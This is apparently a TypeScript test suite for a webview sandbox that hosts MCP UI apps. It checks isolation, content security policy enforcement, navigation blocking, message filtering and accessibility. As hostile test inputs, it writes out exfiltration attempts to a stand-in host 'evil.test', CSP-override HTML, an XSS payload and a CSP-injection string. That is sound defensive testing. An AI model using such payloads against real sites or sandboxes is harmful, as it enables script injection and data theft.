import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { McpUiHostContextSchema } from '@modelcontextprotocol/ext-apps/app-bridge';
import type * as Axe from 'axe-core';
import type { JsonObject } from '../../src/core/json.ts';
import type { AppReview } from '../../src/shared/mcpAppMessages.ts';
import { AppPageBed, exampleApp, reportScript, type AppOptions, type OpenApp } from './harness/appPage.ts';

let bed: AppPageBed;
before(async () => {
  bed = await AppPageBed.start();
});
after(() => bed.stop());

/** Runs an app that consists of a script. */
async function withApp(
  script: string,
  use: (app: OpenApp) => Promise<void>,
  options: Omit<AppOptions, 'html'> = {},
): Promise<void> {
  const html = `<!doctype html><html><head><title>x</title></head><body><p id="own">own</p><script type="module">${reportScript}\n${script}</script></body></html>`;
  const app = await bed.run({ html, ...options });
  try {
    await use(app);
  } finally {
    await app.close();
  }
}

/** What an expression of the app came to: its value or the name of what it threw. */
const tried = (name: string, expression: string) =>
  `try { report('${name}', String(await (${expression}))); } catch (error) { report('${name}', error.name); }`;

const declares = (csp: Record<string, string[]>): JsonObject => ({ csp });

test('an app has an origin of its own: nothing of the page or the editor is in its reach', () =>
  withApp(
    [
      tried('origin', 'self.origin'),
      tried('parent', 'parent.document.body.innerHTML'),
      tried('top', 'top.document.title'),
      tried('api', 'parent.acquireVsCodeApi()'),
      tried('host', 'parent.toHost({ kind: "approve" })'),
      tried('frame', 'window.frameElement === null'),
      tried('storage', 'localStorage.length'),
      tried('cookie', 'document.cookie'),
    ].join('\n'),
    async (app) => {
      assert.equal(await app.reported('origin'), 'null');
      assert.equal(await app.reported('frame'), 'true');
      for (const name of ['parent', 'top', 'api', 'host', 'storage', 'cookie'])
        assert.equal(await app.reported(name), 'SecurityError', name);
      await app.frame.getByText('own').waitFor();
    },
  ));

test('an app reaches no address that it did not declare, by any way', () =>
  withApp(
    `const refused = new Set(); document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => refused.add(effectiveDirective + ' ' + blockedURI.replace(/^.*\\//, '')));
     document.head.insertAdjacentHTML('beforeend', '<link rel="stylesheet" href="https://evil.test/style.css"><link rel="preload" as="image" href="https://evil.test/preload"><link rel="prefetch" href="https://evil.test/prefetch"><base href="https://evil.test/">');
     document.body.insertAdjacentHTML('beforeend', '<img src="https://evil.test/img"><video src="https://evil.test/video"></video><iframe src="https://evil.test/frame"></iframe><object data="https://evil.test/object"></object><form action="https://evil.test/form" method="post"><button>x</button></form><a id="a" href="https://evil.test/a" ping="https://evil.test/ping" target="_top">a</a><a id="b" href="https://evil.test/b" download>b</a><style>@import "https://evil.test/import"; p { background: url(https://evil.test/bg) } @font-face { font-family: x; src: url(https://evil.test/font) } p { font-family: x }</style>');
     const script = document.createElement('script'); script.src = 'https://evil.test/script.js'; document.body.append(script);
     ${tried('fetch', `fetch('https://evil.test/fetch').then(() => 'reached')`)}
     ${tried('api', `fetch('https://declared.test/api').then((got) => got.text())`)}
     ${tried('xhr', `new Promise((done) => { const x = new XMLHttpRequest(); x.onload = () => done('reached'); x.onerror = () => done('refused'); x.open('GET', 'https://evil.test/xhr'); x.send(); })`)}
     ${tried('socket', `new Promise((done) => { const s = new WebSocket('wss://evil.test/ws'); s.onopen = () => done('reached'); s.onerror = () => done('refused'); })`)}
     ${tried('beacon', `navigator.sendBeacon('https://evil.test/beacon', 'x')`)}
     ${tried('source', `new Promise((done) => { const s = new EventSource('https://evil.test/events'); s.onopen = () => done('reached'); s.onerror = () => done('refused'); })`)}
     ${tried('import', `import('https://evil.test/module.js')`)}
     ${tried('eval', `eval('1')`)}
     ${tried('worker', `new Promise((done) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage("ran")']))); w.onmessage = ({ data }) => done(data); w.onerror = () => done('refused'); })`)}
     ${tried('popup', `window.open('https://evil.test/popup')`)}
     addEventListener('message', ({ data }) => {
       if (!data.go) return;
       document.querySelector('form').submit();
       try { top.location.href = 'https://evil.test/top'; } catch {}
       document.getElementById('a').click();
       document.getElementById('b').click();
     });
     ${tried('end', `[...refused].sort().join()`)}`,
    async (app) => {
      const refused = String(await app.reported('end')).split(',');
      for (const way of [
        ...[
          'connect-src fetch',
          'connect-src xhr',
          'connect-src ws',
          'connect-src events',
          'connect-src beacon',
        ],
        ...['img-src img', 'media-src video', 'style-src-elem style.css', 'style-src-elem import'],
        ...['script-src-elem script.js', 'script-src-elem module.js', 'script-src eval'],
        ...['frame-src evil.test', 'object-src evil.test', 'base-uri '],
      ])
        assert.ok(refused.includes(way), `${way} in ${refused.join(' | ')}`);
      const wanted = {
        fetch: 'TypeError',
        xhr: 'refused',
        socket: 'refused',
        source: 'refused',
        import: 'TypeError',
        eval: 'EvalError',
        worker: 'refused',
        popup: 'null',
      };
      for (const [name, value] of Object.entries(wanted)) assert.equal(await app.reported(name), value, name);
      // What is declared passes the policy; whether the browser reaches it is not the policy's to say.
      await app.reported('api');
      assert.ok(!refused.includes('connect-src api'));
      // The last of its ways out leads nowhere but takes the frame with it; by then the others have been tried.
      await app.post({ kind: 'message', message: { go: true } });
      await app.heard(({ kind }) => kind === 'stopped');
      assert.ok(
        app.requests.every((url) => url === 'https://declared.test/api'),
        app.requests.join(),
      );
      assert.equal(app.page.url(), 'https://webview.test/');
      assert.equal(app.page.context().pages().length, 1);
    },
    { meta: declares({ connectDomains: ['https://declared.test'] }) },
  ));

for (const go of [
  'https://evil.test/?secret',
  'https://declared.test/?secret',
  'about:blank',
  'about:srcdoc',
])
  test(`an app that goes to ${go} is taken away, and nothing is asked there`, () =>
    withApp(
      `window.addEventListener('message', ({ data }) => { if (data.go) location.href = data.go; });
       addEventListener('load', () => report('waits', 1));`,
      async (app) => {
        await app.reported('waits');
        await app.post({ kind: 'message', message: { go } });
        assert.deepEqual(await app.heard(({ kind }) => kind === 'stopped'), {
          kind: 'stopped',
          reason: 'left',
        });
        if (go.startsWith('https:')) await app.refused(`frame-src ${new URL(go).host}`);
        await app.page.getByRole('alert').getByText('stopped: left').waitFor();
        assert.equal(await app.page.locator('iframe').count(), 0);
        assert.deepEqual(app.requests, []);
      },
      { meta: declares({ frameDomains: ['https://declared.test'] }) },
    ));

test('an app that goes to a declared address with its first line is stopped there', async () => {
  const app = await bed.run({
    html: `<script>location.href = 'https://declared.test/?secret'</script>`,
    meta: declares({ frameDomains: ['https://declared.test'] }),
  });
  await app.refused('frame-src declared.test');
  assert.deepEqual(await app.heard(({ kind }) => kind === 'stopped'), { kind: 'stopped', reason: 'left' });
  assert.deepEqual(app.requests, []);
  await app.close();
});

test('of frames inside an app only declared ones are let through', () =>
  withApp(
    `const refused = new Set(); document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => refused.add(effectiveDirective + ' ' + new URL(blockedURI).host));
     const show = (src) => new Promise((done) => { const frame = document.createElement('iframe'); frame.onload = done; frame.src = src; document.body.append(frame); });
     await Promise.all([show('https://declared.test/frame'), show('https://evil.test/frame')]);
     report('refused', [...refused]);`,
    async (app) => {
      assert.deepEqual(await app.reported('refused'), ['frame-src evil.test']);
    },
    { meta: declares({ frameDomains: ['https://declared.test'] }) },
  ));

test('an app cannot lift its policy with one of its own, nor by closing the head early', async () => {
  const loose = `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'; connect-src *">`;
  const tail = `<script type="module">${reportScript}${tried('fetch', `fetch('https://evil.test/x').then(() => 'reached')`)}</script>`;
  for (const html of [
    `${loose}${tail}`,
    `</head><body>${loose}${tail}`,
    `--></title></style></script></head>${tail}`,
    `\ufeff<!DOCTYPE html><html><head>${loose}</head><body>${tail}`,
    `</body></html>${loose}${tail}`,
  ]) {
    const app = await bed.run({ html });
    assert.equal(await app.reported('fetch'), 'TypeError', html);
    assert.deepEqual(app.requests, []);
    await app.close();
  }
});

test('messages of an app reach the host as its text alone, and none passes for one of the page or the host', () =>
  withApp(
    `for (const hostile of [{ kind: 'approve' }, { kind: 'ready' }, { kind: 'load', html: '<p>other' }, { kind: 'stop', text: 'x' }, { kind: 'height', pixels: 1 }, 'text', null, [1], new Uint8Array(9)]) parent.postMessage(hostile, '*');
     const circle = { jsonrpc: '2.0' }; circle.self = circle; parent.postMessage(circle, '*'); parent.postMessage({ jsonrpc: '2.0', id: 1n }, '*');
     window.addEventListener('message', ({ data, source }) => report('answered', [data, source === parent]));
     report('sent', { approve: true });`,
    async (app) => {
      await app.reported('sent');
      assert.deepEqual(
        app.messages.filter(({ kind }) => kind !== 'ready' && kind !== 'environment').map(({ kind }) => kind),
        ['message'],
      );
      await app.post({ kind: 'message', message: { jsonrpc: '2.0', id: 1, result: {} } });
      assert.deepEqual(await app.reported('answered'), [{ jsonrpc: '2.0', id: 1, result: {} }, true]);
      await app.frame.getByText('own').waitFor();
    },
  ));

test('an app that floods is taken away', () =>
  withApp(`for (let i = 0; i < 5_000; i++) report('flood', i);`, async (app) => {
    assert.deepEqual(await app.heard(({ kind }) => kind === 'stopped'), { kind: 'stopped', reason: 'flood' });
    await app.page.getByRole('alert').getByText('stopped: flood').waitFor();
    assert.ok(app.messages.length < 1_100);
  }));

test('an app gets as much height as it says it needs, up to the room there is', () =>
  withApp(`report('up', 1);`, async (app) => {
    await app.reported('up');
    const height = async () => Math.round((await app.page.locator('iframe').boundingBox())?.height ?? 0);
    const room = await height();
    assert.ok(room > 500);
    await app.post({ kind: 'height', pixels: 120 });
    await app.page.waitForFunction(`document.querySelector('iframe').offsetHeight === 122`);
    await app.post({ kind: 'height', pixels: 99_999 });
    await app.page.waitForFunction(`document.querySelector('iframe').offsetHeight === ${room}`);
  }));

test('the page tells where the app is shown and when that changes', () =>
  withApp(`report('up', 1);`, async (app) => {
    const ready = await app.heard(({ kind }) => kind === 'ready');
    assert.ok(ready.kind === 'ready');
    assert.equal(ready.environment.theme, 'dark');
    assert.equal(ready.environment.variables['--color-background-primary'], '#1F1F1F'.toLowerCase());
    assert.ok(ready.environment.width > 700);
    // Reading by the schema refuses names that the extension does not have, and adds those that are not given.
    const { styles } = McpUiHostContextSchema.parse({ styles: { variables: ready.environment.variables } });
    const variables = styles?.variables;
    assert.ok(variables);
    const missing = Object.entries(variables).flatMap(([name, value]) => (value === undefined ? [name] : []));
    assert.deepEqual(
      missing.filter((name) => !/^--(color-|font-(sans|mono)$)/.test(name)), // these are the theme's to give
      [],
    );
    assert.equal(variables['--font-text-md-size'], '13px');
    assert.equal(variables['--font-heading-2xl-size'], '26px');
    await app.page.evaluate(`document.body.className = 'vscode-light'`);
    const changed = await app.heard(
      (message) => message.kind === 'environment' && message.environment.theme === 'light',
    );
    assert.ok(changed);
  }));

test('the official example app starts under our policy and shakes hands', async () => {
  const app = await bed.run({ html: exampleApp() });
  const first = await app.heard(({ kind }) => kind === 'message');
  assert.ok(first.kind === 'message');
  const { method, id } = JSON.parse(first.text) as { method: string; id: number };
  assert.equal(method, 'ui/initialize');
  const result = {
    protocolVersion: '2026-01-26',
    hostInfo: { name: 'test', version: '1' },
    hostCapabilities: {},
    hostContext: { theme: 'dark' },
  };
  await app.post({ kind: 'message', message: { jsonrpc: '2.0', id, result } });
  await app.heard(
    (message) => message.kind === 'message' && message.text.includes('ui/notifications/initialized'),
  );
  await app.frame.getByRole('button').first().waitFor();
  await app.close();
});

const axe = readFileSync(path.resolve(import.meta.dirname, '../../node_modules/axe-core/axe.min.js'), 'utf8');

/** What axe says is serious or critical of the page itself; what is in the frame is the server's. */
async function findings({ page }: OpenApp): Promise<readonly string[]> {
  await page.evaluate(axe);
  const { violations } = await page.evaluate<Axe.AxeResults>(
    `axe.run({ exclude: ['iframe'] }, { resultTypes: ['violations'], preload: false, iframes: false })`,
  );
  return violations
    .filter(({ impact }) => impact === 'serious' || impact === 'critical')
    .map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html).join(' ')}`);
}

for (const theme of ['dark', 'light', 'hcDark', 'hcLight'] as const)
  test(`neither the question nor the page around an app has a serious finding of axe in ${theme}`, async () => {
    const question = await bed.review(review, theme);
    assert.deepEqual(await findings(question), []);
    await question.close();
    const app = await bed.run({ html: '<p>own', theme });
    await app.frame.getByText('own').waitFor();
    assert.deepEqual(await findings(app), []);
    await app.close();
  });

const review: AppReview = {
  kind: 'review',
  title: 'Open the app of clock?',
  intro: 'intro',
  changed: 'It has changed',
  facts: [['App', '<img src=x onerror=alert(1)>']],
  groups: [
    { title: 'Connections', items: [{ text: 'https://a.example', note: '(note)' }] },
    { title: 'Network', items: [], none: 'None' },
    { title: 'Refused', isWarning: true, items: [{ text: "x'; script-src *" }] },
  ],
  outro: 'outro',
  open: 'Open App',
  refuse: 'Do Not Open',
};

test('the question shows everything as text and sends the answer only when it is pressed', async () => {
  const app = await bed.review(review);
  for (const text of ['<img src=x onerror=alert(1)>', 'https://a.example', "x'; script-src *", 'None'])
    await app.page.getByText(text, { exact: true }).waitFor();
  assert.equal(await app.page.locator('img').count(), 0);
  assert.deepEqual(app.messages, []);
  await app.page.getByRole('button', { name: 'Do Not Open' }).click();
  await app.page.keyboard.press('Shift+Tab');
  await app.page.keyboard.press('Enter');
  await app.heard(({ kind }) => kind === 'approve');
  assert.deepEqual(app.messages, [{ kind: 'refuse' }, { kind: 'approve' }]);
  assert.deepEqual(app.requests, []);
  await app.close();
});
